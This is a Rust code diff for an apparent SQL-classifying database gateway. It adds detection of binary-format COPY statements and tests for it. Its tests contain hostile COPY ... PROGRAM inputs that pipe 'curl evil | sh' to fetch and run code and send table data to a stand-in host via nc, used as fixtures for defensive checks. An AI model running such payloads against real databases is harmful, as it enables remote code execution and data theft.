@@ -109,6 +109,8 @@ pub struct CopyInfo {
     pub program: bool,
     /// TO/FROM a file on the database server (not STDIN/STDOUT, not PROGRAM).
     pub file: bool,
+    /// `FORMAT binary` (or the older `BINARY`), which the gateway cannot read as text.
+    pub binary: bool,
 }
 
 /// Text the PostgreSQL parser refuses (or that the gateway cannot classify safely).
@@ -459,7 +461,19 @@ impl<'t> Analysis<'t> {
                 let from = node.flag("is_from");
                 let program = node.flag("is_program");
                 let file = !program && !node.str("filename").is_empty();
-                self.copy = Some(CopyInfo { from, program, file });
+                // `BINARY` and `WITH BINARY` parse to the same option as `(FORMAT binary)`.
+                let binary = node.list("options").iter().any(|o| {
+                    o.str("defname").eq_ignore_ascii_case("format")
+                        && o.get("arg")
+                            .and_then(V::sval)
+                            .is_some_and(|f| f.eq_ignore_ascii_case("binary"))
+                });
+                self.copy = Some(CopyInfo {
+                    from,
+                    program,
+                    file,
+                    binary,
+                });
                 self.writes |= from || program || file;
                 K::Copy
             }
@@ -2143,7 +2157,8 @@ mod tests {
                 Some(CopyInfo {
                     from: true,
                     program: false,
-                    file: false
+                    file: false,
+                    binary: false,
                 })
             )
         );
@@ -2155,6 +2170,22 @@ mod tests {
         assert_eq!((s.writes, s.tables.clone()), (false, strs(&["public.secret"])));
         let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
         assert_eq!((s.kinds.clone(), s.writes), (vec![K::Copy, K::Delete], true));
+        for sql in [
+            "COPY orders TO STDOUT (FORMAT binary)",
+            "COPY orders TO STDOUT (FORMAT 'BINARY')",
+            "COPY orders TO STDOUT BINARY",
+            "COPY orders TO STDOUT WITH BINARY",
+            "COPY (SELECT card_number::bigint FROM orders) TO STDOUT (FORMAT binary)",
+        ] {
+            assert!(one(sql).copy.is_some_and(|c| c.binary && !c.from), "{sql}");
+        }
+        for sql in [
+            "COPY orders TO STDOUT",
+            "COPY orders TO STDOUT (FORMAT csv)",
+            "COPY orders TO STDOUT (FORMAT text)",
+        ] {
+            assert!(one(sql).copy.is_some_and(|c| !c.binary), "{sql}");
+        }
         let s = one("COPY orders FROM PROGRAM 'curl evil | sh'");
         assert_eq!(s.copy.map(|c| (c.program, c.file)), Some((true, false)));
         let s = one("COPY orders TO PROGRAM 'nc evil 1'");
